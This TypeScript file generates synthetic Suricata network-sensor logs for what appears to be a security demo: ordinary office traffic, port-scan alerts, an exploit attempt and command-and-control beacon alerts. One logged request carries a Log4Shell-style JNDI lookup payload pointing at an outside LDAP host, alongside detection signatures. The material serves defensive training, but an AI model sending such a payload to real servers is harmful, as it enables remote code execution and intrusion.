import type { RecordingClock } from '../clock.ts'
import { attacker, others, resolver, steps, webServer, workstation } from '../places.ts'

interface Flow {
  readonly from: string
  readonly fromPort: number
  readonly to: string
  readonly toPort: number
  readonly transport?: 'TCP' | 'UDP'
}

interface Signature {
  readonly id: number
  readonly text: string
  readonly category: string
  readonly severity: 1 | 2 | 3
  readonly technique: string
}

/** EVE records of the network sensor. */
export function suricataLines(clock: RecordingClock): string[] {
  const record = (before: number, type: string, flow: Flow, more: object): string =>
    JSON.stringify({
      timestamp: clock.eve(before),
      flow_id: 1_000_000_000 + Math.round(before * 1000) * 7,
      in_iface: 'eth1',
      event_type: type,
      src_ip: flow.from,
      src_port: flow.fromPort,
      dest_ip: flow.to,
      dest_port: flow.toPort,
      proto: flow.transport ?? 'TCP',
      ...more,
    })
  const alert = (before: number, flow: Flow, { id, text, category, severity, technique }: Signature): string =>
    record(before, 'alert', flow, {
      alert: {
        action: 'allowed',
        gid: 1,
        signature_id: id,
        rev: 1,
        signature: text,
        category,
        severity,
        metadata: { mitre_technique_id: [technique] },
      },
    })
  return [
    ...ordinary(record),
    ...[22, 80, 443, 3306, 8080].map((port, i) =>
      alert(
        steps.scan - i * 2,
        { from: attacker.address, fromPort: 40_000 + i, to: webServer.address, toPort: port },
        scan,
      ),
    ),
    record(steps.exploit, 'http', toWeb(51_002), {
      http: {
        hostname: 'shop.example.com',
        url: '/search?q=${jndi:ldap://198.51.100.80/a}',
        http_user_agent: 'Mozilla/5.0',
        http_method: 'GET',
        protocol: 'HTTP/1.1',
        status: 500,
        length: 312,
      },
    }),
    alert(steps.exploit, toWeb(51_002), exploit),
    ...Array.from({ length: 12 }, (_, i) => alert(steps.beacon - i * 24, toControl(49_900 + i), beacon)),
    ...Array.from({ length: 12 }, (_, i) =>
      record(steps.beacon - i * 24 - 1, 'tls', toControl(49_900 + i), {
        tls: { sni: attacker.controlName, version: 'TLS 1.3', ja3: { hash: '6734f37431670b3ab4292b8f60f29984' } },
      }),
    ),
  ]
}

const toWeb = (fromPort: number): Flow => ({ from: attacker.address, fromPort, to: webServer.address, toPort: 80 })

const toControl = (fromPort: number): Flow => ({
  from: workstation.address,
  fromPort,
  to: attacker.controlAddress,
  toPort: 443,
})

const scan: Signature = {
  id: 9_000_001,
  text: 'AURORA DEMO SCAN Port scan from outside',
  category: 'Attempted Information Leak',
  severity: 3,
  technique: 'T1046',
}

const exploit: Signature = {
  id: 9_000_002,
  text: 'AURORA DEMO EXPLOIT JNDI lookup in a request',
  category: 'Attempted Administrator Privilege Gain',
  severity: 1,
  technique: 'T1190',
}

const beacon: Signature = {
  id: 9_000_003,
  text: 'AURORA DEMO MALWARE Beacon to a known control server',
  category: 'Malware Command and Control Activity Detected',
  severity: 1,
  technique: 'T1071.001',
}

/** Half an hour of a small office: names are looked up, pages are fetched. */
function ordinary(record: (before: number, type: string, flow: Flow, more: object) => string): string[] {
  const names = ['updates.example.org', 'mail.example.com', 'news.example.net', 'cdn.example.org'] as const
  return Array.from({ length: 160 }, (_, i) => {
    const before = 1_790 - i * 11
    const from = others[i % others.length] ?? others[0]
    const name = names[i % names.length] ?? names[0]
    if (i % 3 === 0)
      return record(
        before,
        'dns',
        { from, fromPort: 30_000 + i, to: resolver, toPort: 53, transport: 'UDP' },
        {
          dns: { version: 2, type: 'query', id: i, rrname: name, rrtype: 'A', tx_id: 0 },
        },
      )
    const web = { from, fromPort: 42_000 + i, to: '198.51.100.14', toPort: 443 }
    if (i % 3 === 1) return record(before, 'tls', web, { tls: { sni: name, version: 'TLS 1.3' } })
    return record(before, 'flow', web, {
      app_proto: 'tls',
      flow: { pkts_toserver: 12, pkts_toclient: 17, bytes_toserver: 2_100 + i * 13, bytes_toclient: 14_000 + i * 71 },
    })
  })
}
